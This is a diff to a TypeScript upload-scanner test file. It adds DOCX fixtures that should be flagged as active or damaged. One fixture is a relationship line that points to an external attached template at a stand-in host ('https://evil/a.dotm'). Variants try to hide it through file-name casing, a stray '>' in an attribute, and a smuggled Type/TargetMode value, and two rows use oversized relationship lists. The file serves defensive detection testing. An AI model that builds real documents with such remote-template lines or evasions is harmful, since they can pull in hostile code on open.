@@ -12,6 +12,7 @@ import { eicar } from '#platform/server/testing/clamd.ts'
 import {
   docxBomb,
   docxRelatedTo,
+  docxWithLists,
   gifOf,
   pngBomb,
   pngChunk,
@@ -53,6 +54,8 @@ const html = Buffer.from(`<!doctype html>${script}`)
 const program = Buffer.from('MZ\u0090\u0000\u0003This program cannot be run in DOS mode', 'latin1')
 const workbook = sampleZip({ '[Content_Types].xml': '', 'xl/workbook.xml': '' })
 const installer = sampleCompound(['\u4840\u3F3F\u4577', '\u0005SummaryInformation'])
+const fetching =
+  '<Relationship Id="rId1" Type="http://x/attachedTemplate" Target="https://evil/a.dotm" TargetMode="External"/>'
 const behind = (bytes: Uint8Array, hung: Uint8Array | string) => Buffer.concat([bytes, Buffer.from(hung as string)])
 const padded = (bytes: Uint8Array, size: number) => behind(bytes, Buffer.alloc(size - bytes.length, ' '))
 const fiveMegabytes = 5 * 1024 * 1024
@@ -177,6 +180,46 @@ const rows: readonly Row[] = [
     docx,
     'type',
     'active',
+  ],
+  [
+    'a DOCX with a template from elsewhere in a list that is written large',
+    docxWithLists({ 'settings.xml.RELS': fetching }),
+    'a.docx',
+    docx,
+    'type',
+    'active',
+  ],
+  [
+    'a DOCX with a template from elsewhere behind the end of a tag within a value',
+    docxWithLists({ 'settings.xml.rels': fetching.replace('rId1', 'a>b') }),
+    'a.docx',
+    docx,
+    'type',
+    'active',
+  ],
+  [
+    'a DOCX with a template from elsewhere behind a value that looks like another',
+    docxWithLists({ 'settings.xml.rels': fetching.replace('rId1', " Type='a' TargetMode=''") }),
+    'a.docx',
+    docx,
+    'type',
+    'active',
+  ],
+  [
+    'T22 a DOCX of which two lists of relationships together are too long',
+    docxWithLists({ 'a.rels': ' '.repeat(600_000), 'b.rels': ' '.repeat(600_000) }),
+    'a.docx',
+    docx,
+    'type',
+    'damaged',
+  ],
+  [
+    'T22 a DOCX with more relationships than a text has',
+    docxWithLists({ 'a.rels': '<a/>'.repeat(6000), 'b.rels': '<a/>'.repeat(6000) }),
+    'a.docx',
+    docx,
+    'type',
+    'damaged',
   ],
   [
     'a DOCX of a template of one’s own',
